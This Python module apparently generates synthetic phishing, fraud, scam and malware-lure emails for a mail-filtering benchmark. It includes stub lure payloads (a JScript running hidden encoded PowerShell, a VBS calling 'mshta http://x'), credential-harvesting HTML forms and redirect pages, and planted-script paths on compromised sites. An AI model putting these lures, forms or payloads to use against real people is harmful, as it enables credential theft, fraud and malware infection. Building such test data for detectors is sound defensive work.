
"""Set B's bad mail: phishing, payment fraud, scams and malware lures sent through compromised accounts of
bench.modern_mail_b.world (a stolen mailbox password, or a script dropped into a site)."""

from __future__ import annotations

import base64
import html
import random
from collections.abc import Callable

from bench.modern_mail_b import spam_texts as S
from bench.modern_mail_b.render import Draft, Part, pdf, png, zip_of
from bench.modern_mail_b.world import (
    ACCOUNTS,
    COMPROMISED,
    Route,
    SiteAccount,
    account,
    contact,
    cron,
    script,
    submitted,
)

Built = tuple[Draft, Route, list[str]]
_A = "abcdefghijklmnopqrstuvwxyz0123456789"

PHISH_HOSTS = ("https://{r}.pages.dev/{p}", "https://{r}.web.app/{p}", "https://storage.googleapis.com/{r}/{p}.html",
               "https://pub-{r}.r2.dev/{p}.html", "https://{r}-{w}.top/{p}", "https://{w}-{r}.xyz/{p}/",
               "https://{r}.{w}-portal.online/{p}", "https://ipfs.io/ipfs/bafybei{r}{r}/{p}.html",
               "https://{r}.firebaseapp.com/?e={e}", "https://{site}/wp-includes/css/{r}/{p}.php",
               "https://{r}.workers.dev/{p}", "https://forms.office.com/r/{r}", "https://{r}.weebly.com/")
PAY_HOSTS = ("https://pay-{r}.shop/checkout?inv={n}", "https://buy.stripe.com/{r}", "https://{r}-billing.com/pay/{n}",
             "https://secure-{r}.site/invoice/{n}", "https://{r}.mypayportal.net/i/{n}")
FILE_HOSTS = ("https://mega.nz/file/{r}#{r2}", "https://www.mediafire.com/file/{r}/{f}/file",
              "https://cdn.discordapp.com/attachments/1{n}/2{n}/{f}", "https://transfer.sh/{r}/{f}",
              "https://{site}/wp-content/uploads/2025/11/{f}", "https://1drv.ms/u/s!{r}", "https://bit.ly/{r5}",
              "https://github.com/{r}/{r2}/releases/download/v1/{f}", "https://www.dropbox.com/s/{r}/{f}?dl=1")
BRANDS = (("PayPal", "paypal"), ("Netflix", "netflix"), ("Apple", "apple"), ("Amazon", "amazon"), ("ING", "ing"),
          ("Intesa Sanpaolo", "intesa"), ("PKO Bank Polski", "pko"), ("Millennium BCP", "millennium"),
          ("Garanti BBVA", "garanti"), ("KB국민은행", "kbstar"), ("Microsoft 365", "microsoft"), ("DHL", "dhl"))
LURE_WORDS = ("secure", "verify", "account", "update", "login", "support", "auth", "docs", "billing", "mail")
MALWARE_FILES = (("Invoice_{n}.zip", [("Invoice_{n}.js", b"var s=WScript.CreateObject('WScript.Shell');"
                                       b"s.Run('powershell -w hidden -enc SQBFAFgA');")]),
                 ("PO_{n}.zip", [("PO_{n}.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00cmd.exe /c powershell")]),
                 ("Scan_{n}.img", None), ("Docs_{n}.iso", None), ("Order_{n}.r00", None),
                 ("Payment_{n}.zip", [("Payment_{n}.vbs", b"CreateObject(\"WScript.Shell\").Run \"mshta http://x\"")]),
                 ("Quote_{n}.xlsm", None))


def _r(rng: random.Random, n: int = 8) -> str:
    return "".join(rng.choice(_A) for _ in range(n))


def _link(rng: random.Random, table: tuple[str, ...], victim: str = "", f: str = "") -> str:
    site = rng.choice(ACCOUNTS).domain
    return rng.choice(table).format(r=_r(rng), r2=_r(rng, 12), r5=_r(rng, 6), w=rng.choice(LURE_WORDS),
                                    p=rng.choice(("login", "index", "auth", "verify", "owa", "signin", "doc")),
                                    e=base64.b64encode(victim.encode()).decode(), n=rng.randint(10**5, 10**6),
                                    site=site, f=f or f"Documents_{rng.randint(100, 999)}.zip")


def _victims(rng: random.Random, lang: str, lo: int = 1, hi: int = 30) -> list[str]:
    return [contact(rng, lang).email for _ in range(rng.randint(lo, hi))]


def _lang_of(rng: random.Random, table: dict[str, list[tuple[str, str]]], acct: SiteAccount) -> str:
    if acct.lang in table and rng.random() < 0.65:
        return acct.lang
    return rng.choice(sorted(table))


def _route(rng: random.Random, acct: SiteAccount, *, from_addr: str) -> Route:
    """An intruder with the mailbox's password, or a script dropped into the site, or a cron job they added."""
    r = rng.random()
    if r < 0.55:
        return submitted(rng, from_addr if from_addr.endswith(acct.domain) else f"{acct.people[0][1]}@{acct.domain}",
                         intruder=True)
    if r < 0.9:
        path = rng.choice(("/wp-content/uploads/2025/10/class-wp-cache.php", "/wp-includes/images/x.php",
                           "/tmp/m.php", "/wp-content/plugins/hello-dolly/mail.php", "/.well-known/acme.php"))
        return script(rng, acct, path, mail_from=rng.choice(("", from_addr)))
    return cron(acct, mail_from=rng.choice(("", from_addr)))


def _from(rng: random.Random, acct: SiteAccount, display: str) -> tuple[str, str]:
    """The From an intruder writes: the stolen mailbox, a made-up box on the same domain, or a foreign one."""
    r = rng.random()
    if r < 0.5:
        return display, f"{acct.people[0][1]}@{acct.domain}"
    if r < 0.8:
        return display, f"{rng.choice(('noreply', 'support', 'admin', 'billing', 'info'))}@{acct.domain}"
    return display, f"{rng.choice(('notice', 'service', 'alert'))}@{_r(rng, 6)}-{rng.choice(LURE_WORDS)}.com"


def _body(rng: random.Random, text: str, link: str | None, *, html_share: float = 0.6, button: str = "") -> \
        tuple[str | None, str | None]:
    if rng.random() > html_share:
        return text, None
    esc = html.escape(text)
    if link:
        label = button or rng.choice(("Click here", "Verify now", "Open", "Login", "View", link))
        esc = esc.replace(html.escape(link), f'<a href="{html.escape(link)}">{html.escape(label)}</a>')
    page = '<html><body style="font-family:Segoe UI,Arial"><div style="max-width:560px">' + \
        esc.replace("\n", "<br>") + "</div></body></html>"
    return (text if rng.random() < 0.4 else None), page


def _pick(rng: random.Random, table: dict[str, list[tuple[str, str]]], lang: str) -> tuple[str, str]:
    return rng.choice(table[lang])


def quota(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.QUOTA, acct)
    victims = _victims(rng, lang)
    subj, body = _pick(rng, S.QUOTA, lang)
    link = _link(rng, PHISH_HOSTS, victims[0])
    pct = rng.choice((96, 98, 99, 100))
    fill = dict(user=victims[0].split("@")[0], email=victims[0], pct=pct, link=link, domain=victims[0].split("@")[1])
    text = body.format(**fill)
    disp, frm = _from(rng, acct, rng.choice(("Mail Administrator", "Webmail Support", "IT Helpdesk", "Postmaster")))
    plain, page = _body(rng, text, link)
    return Draft(subj.format(**fill), disp, frm, [("", victims[0])], plain, page, to_header=rng.choice(
        ("", "undisclosed-recipients:;"))), _route(rng, acct, from_addr=frm), victims


def brand(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.BRAND, acct)
    victims = _victims(rng, lang)
    name, word = rng.choice(BRANDS)
    subj, body = _pick(rng, S.BRAND, lang)
    link = _link(rng, PHISH_HOSTS, victims[0]) if rng.random() < 0.6 else \
        f"https://{word}-{rng.choice(LURE_WORDS)}-{_r(rng, 4)}.{rng.choice(('com', 'net', 'info', 'top'))}/"
    text = body.format(brand=name, link=link)
    disp, frm = _from(rng, acct, rng.choice((name, f"{name} Service", f"{name} Security", "Customer Service")))
    plain, page = _body(rng, text, link)
    return Draft(subj.format(brand=name), disp, frm, [("", victims[0])], plain, page), \
        _route(rng, acct, from_addr=frm), victims


def docshare(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.DOCSHARE, acct)
    victims = _victims(rng, lang, 1, 20)
    subj, body = _pick(rng, S.DOCSHARE, lang)
    sender = acct.people[0][0]
    doc = rng.choice(("Q4 Payment Schedule.pdf", "Contract_Amendment.docx", "Remittance_Details.pdf",
                      "Proposal_2026.pdf", "Salary_Review.xlsx"))
    link = _link(rng, PHISH_HOSTS, victims[0])
    fill = dict(sender=sender, doc=doc, pages=rng.randint(2, 9), link=link)
    text = body.format(**fill)
    disp, frm = _from(rng, acct, rng.choice((sender, f"{sender} via SharePoint", "DocuSign", "OneDrive")))
    plain, page = _body(rng, text, link, html_share=0.8, button=rng.choice(("Open", "REVIEW DOCUMENT", "View file")))
    return Draft(subj.format(**fill), disp, frm, [("", victims[0])], plain, page), \
        _route(rng, acct, from_addr=frm), victims


def html_attach(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.HTML_ATTACH, acct)
    victims = _victims(rng, lang, 1, 15)
    subj, body = _pick(rng, S.HTML_ATTACH, lang)
    num = rng.randint(10000, 99999)
    fill = dict(num=num, secs=rng.randint(12, 59), phone=rng.randint(10**9, 10**10))
    target = _link(rng, PHISH_HOSTS, victims[0])
    kind = rng.random()
    if kind < 0.4:
        page = (f'<html><head><title>Sign in</title></head><body><div class="box"><h3>Sign in to view document</h3>'
                f'<form method="post" action="{target}"><input type="email" name="login" value="{victims[0]}">'
                '<input type="password" name="passwd" placeholder="Password"><button>Next</button></form></div>'
                "</body></html>")
    elif kind < 0.75:
        enc = base64.b64encode(target.encode()).decode()
        page = f'<html><body><script>var u=atob("{enc}");window.location.href=u+"#{victims[0]}";</script>' \
               "Loading...</body></html>"
    else:
        page = f'<html><head><meta http-equiv="refresh" content="0;url={target}"></head><body>Please wait</body></html>'
    fname = rng.choice(("Remittance_{n}.html", "Voice_Message_{n}.htm", "Scan_{n}.shtml", "Payment_Advice_{n}.html",
                        "INV_{n}.html")).format(n=num)
    disp, frm = _from(rng, acct, rng.choice(("Accounts Payable", "Voice Mail", "Scanner", acct.people[0][0])))
    d = Draft(subj.format(**fill), disp, frm, [("", victims[0])], body.format(**fill))
    d.parts.append(Part(fname, "text", "html", page.encode()))
    return d, _route(rng, acct, from_addr=frm), victims


def qr(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.QR, acct)
    victims = _victims(rng, lang, 1, 20)
    subj, body = _pick(rng, S.QR, lang)
    text = body.format(email=victims[0])
    disp, frm = _from(rng, acct, rng.choice(("IT Security", "Microsoft 365 Admin", "HR Department", "Payroll")))
    inline = rng.random() < 0.6
    page = None
    if inline:
        page = "<html><body><p>" + html.escape(text).replace("\n", "<br>") + \
            '</p><img src="cid:mfa" width="220"></body></html>'
    d = Draft(subj, disp, frm, [("", victims[0])], None if inline and rng.random() < 0.5 else text, page)
    d.parts.append(Part(rng.choice(("qrcode.png", "MFA.png", "image001.png")), "image", "png", png(rng),
                        cid="mfa" if inline else ""))
    if not inline and rng.random() < 0.5:
        d.parts[-1] = Part("Secure_Document.pdf", "application", "pdf", pdf(["Scan the QR code with your phone",
                                                                             "to review the document"]))
    return d, _route(rng, acct, from_addr=frm), victims


def fake_invoice(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.FAKE_INVOICE, acct)
    victims = _victims(rng, lang, 1, 25)
    subj, body = _pick(rng, S.FAKE_INVOICE, lang)
    num = f"INV-{rng.randint(10000, 99999)}"
    link = _link(rng, PAY_HOSTS)
    cur = rng.choice(("EUR", "USD", "$", "€"))
    fill = dict(num=num, total=f"{cur} {rng.randint(120, 2900)}.{rng.randint(0, 99):02d}",
                days=rng.choice((7, 14, 30)), link=link)
    text = body.format(**fill)
    disp, frm = _from(rng, acct, rng.choice(("Billing Department", "Accounts Receivable", acct.name, "Invoice Team")))
    plain, page = _body(rng, text, link, button=rng.choice(("Pay now", "Pay invoice", "View & pay")))
    d = Draft(subj.format(**fill), disp, frm, [("", victims[0])], plain, page)
    if rng.random() < 0.4:
        d.parts.append(Part(f"{num}.pdf", "application", "pdf", pdf([f"Invoice {num}", "Pay online: " + link])))
    return d, _route(rng, acct, from_addr=frm), victims


def bec(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.BEC, acct)
    c = contact(rng, lang, rng.choice(("hotel-miramar.test", "pixelfarm.test", "atelier-nord.test", "")) or "")
    subj, body = _pick(rng, S.BEC, lang)
    sender = acct.people[0][0]
    iban = f"{rng.choice(('LT', 'GB', 'DE', 'HK', 'EE'))}{rng.randint(10, 99)} {rng.randint(1000, 9999)} " \
           f"{rng.randint(1000, 9999)} {rng.randint(1000, 9999)} {rng.randint(1000, 9999)}"
    fill = dict(first=c.first, bank=rng.choice(("Revolut Business", "Wise", "Paysera LT", "Barclays UK", "HSBC HK")),
                iban=iban, swift=_r(rng, 8).upper(), total=f"EUR {rng.randint(4000, 60000):,}", sender=sender)
    text = body.format(**fill)
    frm = f"{acct.people[0][1]}@{acct.domain}"
    reply = "" if rng.random() < 0.5 else f"{acct.people[0][1]}.{acct.domain.split('.')[0]}@" \
        f"{rng.choice(('outlook.com', 'gmail.com', 'accountant-mail.com'))}"
    return Draft(subj, sender, frm, [(c.name, c.email)], text, reply_to=reply,
                 agent=rng.choice(("outlook", "apple", "none"))), submitted(rng, frm, intruder=True), [c.email]


def callback(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.CALLBACK, acct)
    victims = _victims(rng, lang, 1, 40)
    subj, body = _pick(rng, S.CALLBACK, lang)
    product = rng.choice(("Norton 360 Deluxe", "McAfee Total Protection", "Geek Squad Protection", "PayPal Crypto",
                          "Windows Defender Premium"))
    fill = dict(num=rng.randint(10**6, 10**7), product=product,
                total=f"${rng.randint(299, 899)}.{rng.randint(0, 99):02d}",
                phone=rng.choice(("+1 (808) 555-0199", "+1-855-555-0142", "+44 20 3769 0044", "+1 888 555 0117")))
    text = body.format(**fill)
    disp, frm = _from(rng, acct, rng.choice(("Billing Support", fill["product"].split()[0], "Order Desk")))
    d = Draft(subj.format(**fill), disp, frm, [("", victims[0])], *_body(rng, text, None))
    if rng.random() < 0.5:
        d.parts.append(Part(f"Receipt_{fill['num']}.pdf", "application", "pdf",
                            pdf([f"Order {fill['num']}", fill["total"], "Call " + fill["phone"]])))
    return d, _route(rng, acct, from_addr=frm), victims


def filehost(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.FILEHOST, acct)
    victims = _victims(rng, lang, 1, 25)
    subj, body = _pick(rng, S.FILEHOST, lang)
    f = rng.choice(("Documents_{n}.zip", "Contract_{n}.iso", "Invoice_{n}.rar", "Setup_{n}.exe", "Project_{n}.7z",
                    "Scan_{n}.img")).format(n=rng.randint(100, 9999))
    link = _link(rng, FILE_HOSTS, f=f)
    text = body.format(link=link, pw=rng.choice(("1234", "2025", "docs", "Inv123")), sender=acct.people[0][0])
    disp, frm = _from(rng, acct, acct.people[0][0])
    return Draft(subj, disp, frm, [("", victims[0])], *_body(rng, text, link, html_share=0.4)), \
        _route(rng, acct, from_addr=frm), victims


def attach_malware(rng: random.Random, acct: SiteAccount) -> Built:
    lang = _lang_of(rng, S.ATTACH_MALWARE, acct)
    victims = _victims(rng, lang, 1, 25)
    subj, body = _pick(rng, S.ATTACH_MALWARE, lang)
    num = rng.randint(10000, 99999)
    name, members = rng.choice(MALWARE_FILES)
    name = name.format(n=num)
    if members is None:
        data = b"\x00" * 32769 + b"CD001" + bytes(rng.randrange(256) for _ in range(2000)) if name.endswith(
            (".iso", ".img")) else b"Rar!\x1a\x07\x00" + bytes(rng.randrange(256) for _ in range(800)) \
            if name.endswith(".r00") else b"PK\x03\x04" + b"xl/vbaProject.bin" + bytes(600)
    else:
        data = zip_of([(m.format(n=num), d) for m, d in members])
    disp, frm = _from(rng, acct, rng.choice(("Procurement", "DHL Express", acct.people[0][0], "Purchasing Dept")))
    d = Draft(subj.format(num=num), disp, frm, [("", victims[0])], body.format(num=num))
    d.parts.append(Part(name, "application", "octet-stream", data))
    return d, _route(rng, acct, from_addr=frm), victims


def _simple(table: dict[str, list[tuple[str, str]]], displays: tuple[str, ...], links: tuple[str, ...] | None,
            extra: Callable[[random.Random], dict[str, object]], lo: int = 1, hi: int = 40) -> \
        Callable[[random.Random, SiteAccount], Built]:
    def build(rng: random.Random, acct: SiteAccount) -> Built:
        lang = _lang_of(rng, table, acct)
        victims = _victims(rng, lang, lo, hi)
        subj, body = _pick(rng, table, lang)
        link = _link(rng, links, victims[0]) if links else None
        fill = {"link": link or "", "email": victims[0], "first": victims[0].split("@")[0].split(".")[0].title(),
                "sender": acct.people[0][0], **extra(rng)}
        text = body.format(**fill)
        disp, frm = _from(rng, acct, rng.choice(displays))
        return Draft(subj.format(**fill), disp, frm, [("", victims[0])], *_body(rng, text, link)), \
            _route(rng, acct, from_addr=frm), victims
    return build


def _wallet(rng: random.Random) -> str:
    return "bc1q" + "".join(rng.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))


parcel = _simple(S.PARCEL, ("DHL Express", "PostNL", "InPost", "Poste Italiane", "CTT Expresso", "Customs Office"),
                 PAY_HOSTS + PHISH_HOSTS, lambda r: {"track": f"RB{r.randint(10**8, 10**9)}GB",
                                                     "fee": f"€{r.randint(1, 4)}.{r.randint(10, 99)}"})
advance_fee = _simple(S.ADVANCE_FEE, ("Dr. Williams", "Barrister Cole", "Mr. Ahmed"), None,
                      lambda r: {"name": r.choice(("James Okafor", "Henry Walsh", "Kareem Salah")),
                                 "country": r.choice(("Ghana", "Malaysia", "Dubai")),
                                 "amount": f"US${r.randint(5, 28)},{r.randint(100, 999)},000"})
sextortion = _simple(S.SEXTORTION, ("", "Hacker", "Your Friend"), None,
                     lambda r: {"amount": f"${r.randint(900, 2500)}", "wallet": _wallet(r)})
crypto = _simple(S.CRYPTO, ("AI Trader", "Crypto Profits", "Investment Desk"), PHISH_HOSTS,
                 lambda r: {"small": "$250", "big": f"${r.randint(5, 30)},000"})
gift_card = _simple(S.GIFT_CARD, ("CEO", "Director"), None, lambda r: {}, 1, 2)
job = _simple(S.JOB, ("HR Recruitment", "Global Staffing", "Careers Team"), None,
              lambda r: {"amount": f"${r.randint(800, 2500)}"})
loan = _simple(S.LOAN, ("Loan Department", "Quick Credit"), PAY_HOSTS,
               lambda r: {"amount": f"€{r.randint(5, 50)},000", "fee": f"€{r.randint(49, 199)}"})
prize = _simple(S.PRIZE, ("Customer Rewards", "Promo Team"), PAY_HOSTS,
                lambda r: {"prize": r.choice(("iPhone 17 Pro", "Dyson V15", "Samsung Galaxy S26")),
                           "fee": f"€{r.randint(1, 3)}.{r.randint(10, 99)}"})
pharma = _simple(S.PHARMA, ("Online Pharmacy", "Health Store"), PHISH_HOSTS, lambda r: {})
tax = _simple(S.TAX, ("HMRC", "Agenzia delle Entrate", "Portal das Finanças", "e-Devlet"), PHISH_HOSTS,
              lambda r: {"amount": f"€{r.randint(180, 990)}.{r.randint(10, 99)}"})
copyright_ = _simple(S.COPYRIGHT, ("Meta Business Support", "Facebook Pages", "Meta Support"), PHISH_HOSTS,
                     lambda r: {"num": r.randint(10**8, 10**9)})


#: (family, kind, count, builder)
FAMILIES: tuple[tuple[str, str, int, Callable[[random.Random, SiteAccount], Built]], ...] = (
    ("b_phish_quota", "phishing", 14, quota),
    ("b_phish_brand", "phishing", 16, brand),
    ("b_phish_docshare", "phishing", 14, docshare),
    ("b_phish_html_attach", "phishing", 12, html_attach),
    ("b_phish_qr", "phishing", 10, qr),
    ("b_fake_invoice", "fraud", 14, fake_invoice),
    ("b_bec_bank", "fraud", 12, bec),
    ("b_callback", "scam", 10, callback),
    ("b_malware_link", "malware", 12, filehost),
    ("b_malware_attach", "malware", 10, attach_malware),
    ("b_parcel_fee", "phishing", 10, parcel),
    ("b_advance_fee", "scam", 8, advance_fee),
    ("b_sextortion", "scam", 8, sextortion),
    ("b_crypto", "scam", 8, crypto),
    ("b_gift_card", "fraud", 8, gift_card),
    ("b_job_mule", "scam", 8, job),
    ("b_loan", "scam", 6, loan),
    ("b_prize", "scam", 6, prize),
    ("b_pharma", "bulk", 6, pharma),
    ("b_tax_refund", "phishing", 6, tax),
    ("b_copyright", "phishing", 6, copyright_),
)


def compromised(rng: random.Random) -> SiteAccount:
    return account(rng.choice(COMPROMISED))
